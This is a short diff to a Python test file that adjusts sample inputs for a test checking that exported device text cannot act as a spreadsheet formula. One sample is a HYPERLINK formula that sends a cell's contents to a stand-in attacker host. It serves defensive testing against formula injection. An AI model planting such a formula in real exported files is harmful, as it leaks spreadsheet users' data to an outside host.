@@ -100,7 +100,7 @@ def test_restored_names_survive_a_crash_before_the_next_flush(tmp_path: Path) ->
     second.store.close(START)
 
 
-FORMULAS = ('=HYPERLINK("https://evil.example?"&A1)', "+1", "-1", "@x", "\t=1", "'quoted", "''twice", "plain=1")
+FORMULAS = ('=HYPERLINK("https://evil.example?"&A1)', "+1+1", "-1-1", "@x", "\t=1", "'quoted", "''twice", "plain=1")
 
 
 def test_no_text_of_a_device_is_a_formula_of_who_opens_the_file(play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
